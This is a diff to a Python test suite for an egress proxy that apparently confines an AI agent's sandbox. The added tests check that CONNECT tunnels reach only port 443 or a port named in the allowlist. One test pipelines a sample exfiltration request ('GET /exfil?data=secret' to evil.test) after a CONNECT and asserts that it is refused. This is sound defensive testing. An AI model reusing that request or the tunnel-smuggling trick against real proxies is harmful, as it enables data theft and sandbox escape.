@@ -66,7 +66,7 @@ async def test_an_allowed_host_and_the_model_endpoint_are_reached_and_the_rest_r
         private_port = private.extra(anyio.abc.SocketAttribute.local_port)
         group.start_soon(server.serve, upstream.handle)
         group.start_soon(model_server.serve, model.handle)
-        allow = Allowlist(frozenset({Endpoint("127.0.0.1", model_port)}), (STAND_IN, "*.stand-in.test"))
+        allow = Allowlist(frozenset({Endpoint("127.0.0.1", model_port)}), (f"{STAND_IN}:{port}", "*.stand-in.test"))
         proxy = Proxy(allow, lambda message, **fields: logged.append((message, fields)), sandbox="box", agent="a")
         socket = tmp_path / "n.sock"
         async with serving(socket, proxy):
@@ -95,7 +95,7 @@ async def test_an_allowed_domain_that_resolves_to_the_hosts_loopback_is_refused(
     proxy = Proxy(Allowlist(frozenset(), ("localhost",)), lambda message, **fields: logged.append(message), sandbox="b", agent="a")
     socket = tmp_path / "n.sock"
     async with serving(socket, proxy):
-        reply = await ask(socket, b"CONNECT localhost:22 HTTP/1.1\r\n\r\n")
+        reply = await ask(socket, b"CONNECT localhost:443 HTTP/1.1\r\n\r\n")
     assert reply.startswith(b"HTTP/1.1 502") and b"no public address" in reply
     assert await public_addresses("localhost", 80) == []
     assert logged and "no public address" in logged[0]
@@ -299,3 +299,37 @@ async def test_a_kept_alive_connection_carries_no_second_request(allowed):
     with anyio.fail_after(5):
         await server.ended.wait()
     assert server.heads == [f"GET /one HTTP/1.1\r\nHost: {STAND_IN}:{port}\r\nConnection: close".encode()] * 2
+
+
+async def test_a_tunnel_to_a_network_host_goes_to_port_443_or_to_the_port_its_entry_names(allowed):
+    """A tunnel is relayed unread: to a port serving plain HTTP (80, or a front end's other ports)
+    it would carry requests for any site behind the address, pipelined, with no check of their Host."""
+    server, port, socket, logged = allowed  # STAND_IN named without a port
+    exfil = b"GET /exfil?data=secret HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+    for target in (f"{STAND_IN}:80", f"{STAND_IN}:{port}", f"{STAND_IN.upper()}.:{port}"):
+        reply = await ask(socket, f"CONNECT {target} HTTP/1.1\r\n\r\n".encode() + exfil)
+        assert reply.startswith(b"HTTP/1.1 403") and b"go to 443 or" in reply and b"hello" not in reply, target
+    assert server.heads == []
+    assert [fields["target"] for fields in logged] == [f"{STAND_IN}:80", f"{STAND_IN}:{port}", f"{STAND_IN}.:{port}"]
+    assert all("no tunnel may go to" in fields["refused"] for fields in logged)
+    https = await ask(socket, f"CONNECT {STAND_IN}:443 HTTP/1.1\r\n\r\n".encode())  # allowed: nothing serves it here
+    assert https.startswith((b"HTTP/1.1 200", b"HTTP/1.1 502")), https
+    assert all("no tunnel" not in fields["refused"] and "allowlist" not in fields["refused"] for fields in logged[3:])
+
+
+async def test_an_entry_that_names_a_port_lets_tunnels_go_to_that_port_only(tmp_path, stand_in):
+    server, logged = Upstream(), []
+    async with await anyio.create_tcp_listener(local_host="127.0.0.1") as listener, anyio.create_task_group() as group:
+        group.start_soon(listener.serve, server.handle)
+        port = listener.extra(anyio.abc.SocketAttribute.local_port)
+        allow = Allowlist(frozenset(), (f"{STAND_IN}:{port}",))
+        proxy = Proxy(allow, lambda message, **fields: logged.append(fields["target"]), sandbox="b", agent="a")
+        socket = tmp_path / "n.sock"
+        async with serving(socket, proxy):
+            reached = await ask(socket, f"CONNECT {STAND_IN}:{port} HTTP/1.1\r\n\r\n".encode(), b"GET /t HTTP/1.1\r\n\r\n")
+            assert reached.startswith(b"HTTP/1.1 200") and reached.endswith(b"hello")
+            for other in (80, 443):
+                refused = await ask(socket, f"CONNECT {STAND_IN}:{other} HTTP/1.1\r\n\r\n".encode())
+                assert refused.startswith(b"HTTP/1.1 403"), other
+        group.cancel_scope.cancel()
+    assert server.heads == [b"GET /t HTTP/1.1"] and logged == [f"{STAND_IN}:80", f"{STAND_IN}:443"]
